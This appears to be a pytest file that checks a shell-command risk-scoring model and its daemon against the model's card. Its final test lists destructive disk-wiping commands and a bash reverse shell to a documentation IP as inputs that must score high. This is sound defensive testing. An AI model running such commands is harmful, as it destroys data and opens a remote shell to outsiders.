"""The shipped model against its card and the daemon: `OPSPILOT_BINARY`, or else a build in target/."""

import hashlib
import os
from pathlib import Path

import numpy as np
import pytest

import card as cards
import corpus
import forest
import joining
import parity
from scorer import Rows, Scorer, features

HERE = Path(__file__).resolve().parent.parent
MODEL = HERE / "risk.onnx"
RULES = (HERE.parent / "config/rules.toml",)


@pytest.fixture(scope="module")
def scorer() -> Scorer:
    named = os.environ.get("OPSPILOT_BINARY")
    builds = [Path(named)] if named else [HERE.parent / "target" / kind / "opspilot" for kind in ("release", "debug")]
    found = [build for build in builds if build.exists()]
    if not found and not named:
        pytest.skip("no opspilot has been built; `cargo build` first")
    return Scorer(found[0], RULES, MODEL)


@pytest.fixture(scope="module")
def shipped() -> tuple[bytes, dict, forest.Calibration]:
    return MODEL.read_bytes(), *cards.load(MODEL.with_suffix(".json"))


def golden_rows(card: dict) -> Rows:
    return np.array([row["features"] for row in card["golden"]], dtype=np.float32)


def test_the_card_is_the_models(shipped: tuple) -> None:
    model, card, _ = shipped
    assert card["model"]["sha256"] == hashlib.sha256(model).hexdigest()
    assert card["format"] == cards.FORMAT
    assert card["training"]["trees"] <= 100
    assert len(model) <= 3 * 1024 * 1024


def test_the_card_names_the_versions_that_are_pinned(shipped: tuple) -> None:
    pinned = dict(line.split("==") for line in (HERE / "requirements.txt").read_text().split())
    for package, version in shipped[1]["training"]["versions"].items():
        assert package == "python" or pinned[package] == version


def test_onnxruntime_gives_the_golden_answers(shipped: tuple) -> None:
    model, card, calibration = shipped
    probabilities = calibration.apply(forest.onnx_votes(model, golden_rows(card)))
    expected = np.array([row["probabilities"] for row in card["golden"]])
    assert np.abs(probabilities - expected).max() < parity.TOLERANCE
    assert [corpus.LEVELS[k] for k in forest.levels(probabilities)] == [row["level"] for row in card["golden"]]


def test_the_daemon_and_onnxruntime_agree_on_thousands_of_commands(shipped: tuple, scorer: Scorer) -> None:
    model, card, calibration = shipped
    answers = scorer.answers([line.cmd for line in corpus.generate()][::4])
    scored = features(answers)
    assert list(scored.names) == card["features"]["names"]
    assert scored.digest == card["features"]["digest"]
    assert len(answers) > 2000
    assert parity.daemon_agrees(answers, calibration.apply(forest.onnx_votes(model, scored.rows))) < parity.TOLERANCE


def test_the_daemon_joins_as_the_report_does(shipped: tuple, scorer: Scorer) -> None:
    model, _, calibration = shipped
    answers = [
        answer for answer in scorer.answers([line.cmd for line in corpus.generate()][::20]) if answer["understood"]
    ]
    rules = np.array([answer["rule_score"] for answer in answers])
    probabilities = calibration.apply(forest.onnx_votes(model, features(answers).rows))
    ours = joining.joined_scores(rules, probabilities, joining.Bounds())
    assert np.abs(ours - [answer["score"] for answer in answers]).max() < 1e-4


def test_what_tools_send_and_what_only_names_a_shell_is_not_asked_about(scorer: Scorer) -> None:
    sent = [line.cmd for line in corpus.generate() if line.family == "helpers" and line.label in ("low", "medium")]
    raised = [
        answer["cmd"]
        for answer in scorer.answers(sent)
        if answer["level"] in ("high", "critical") and answer["rule_level"] in ("low", "medium")
    ]
    assert len(sent) > 200
    assert len(raised) <= len(sent) / 200, raised


def test_the_daemon_refuses_a_card_with_another_answer(shipped: tuple, scorer: Scorer) -> None:
    model, card, _ = shipped
    parity.daemon_accepts(scorer, model, card, card["golden"])
    wrong = [dict(row) for row in card["golden"]]
    wrong[3]["probabilities"] = [probability + 1e-4 for probability in wrong[3]["probabilities"]]
    with pytest.raises(parity.ParityError, match="golden row 3"):
        parity.daemon_accepts(scorer, model, card, wrong)


def test_the_daemon_refuses_another_model_than_the_cards(shipped: tuple, scorer: Scorer) -> None:
    model, card, _ = shipped
    with pytest.raises(parity.ParityError, match="not the model that its card describes"):
        parity.daemon_accepts(scorer, model + b"\n", card, card["golden"])


def test_grave_commands_are_not_taken_for_harmless(scorer: Scorer) -> None:
    grave = [
        "rm -rf /",
        "sudo mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    ]
    harmless = ["ls -la", "git status", "df -h", "tail -n 50 /var/log/syslog", "kubectl get pods"]
    levels = [answer["ml_level"] for answer in scorer.answers(grave + harmless)]
    assert all(level in ("high", "critical") for level in levels[: len(grave)]), levels
    assert all(level == "low" for level in levels[len(grave) :]), levels
